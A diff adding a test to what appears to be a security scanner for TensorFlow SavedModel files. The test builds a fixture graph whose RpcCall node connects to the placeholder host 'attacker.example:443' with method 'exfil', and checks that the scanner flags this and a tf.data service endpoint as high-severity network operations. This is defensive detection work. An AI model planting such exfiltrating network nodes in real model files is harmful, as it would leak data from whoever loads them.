@@ -47,6 +47,14 @@ describe("threats §3.4: TensorFlow graphs", () => {
     expect(like(report, { ruleId: "tensorflow/python-callback", severity: "critical" }).length, lines(report)).toBe(2);
   });
 
+  it("network ops are high, with the constant endpoint as evidence; a tf.data service endpoint in a library function too", async () => {
+    const fn = { name: "__inference_fetch_9", nodes: [tfStringConst("svc", "grpc://10.0.0.5:5050"), { name: "ds", op: "DataServiceDatasetV4", input: ["svc"] }] };
+    const nodes = [...benignTfNodes(), tfStringConst("addr", "attacker.example:443"), tfStringConst("method", "exfil"), { name: "call", op: "RpcCall", input: ["addr", "method"] }];
+    const report = await tester.scan("saved_model.pb", buildSavedModel(nodes, [fn]));
+    expect(like(report, { ruleId: "tensorflow/network-operation", severity: "high", message: /RpcCall connects to "attacker\.example:443"/ }).length, lines(report)).toBe(1);
+    expect(like(report, { ruleId: "tensorflow/network-operation", severity: "high", message: /DataServiceDatasetV4 connects to "grpc:\/\/10\.0\.0\.5:5050"/ }).length, lines(report)).toBe(1);
+  });
+
   it("a 35-byte GraphDef named saved_model.pb holding a PyFunc node (modelaudit sample shape)", async () => {
     const report = await tester.scan("saved_model.pb", buildGraphDef([{ name: "bad", op: "PyFunc" }]));
     expect(like(report, { ruleId: "tensorflow/python-callback", severity: "critical" }).length, lines(report)).toBe(1);
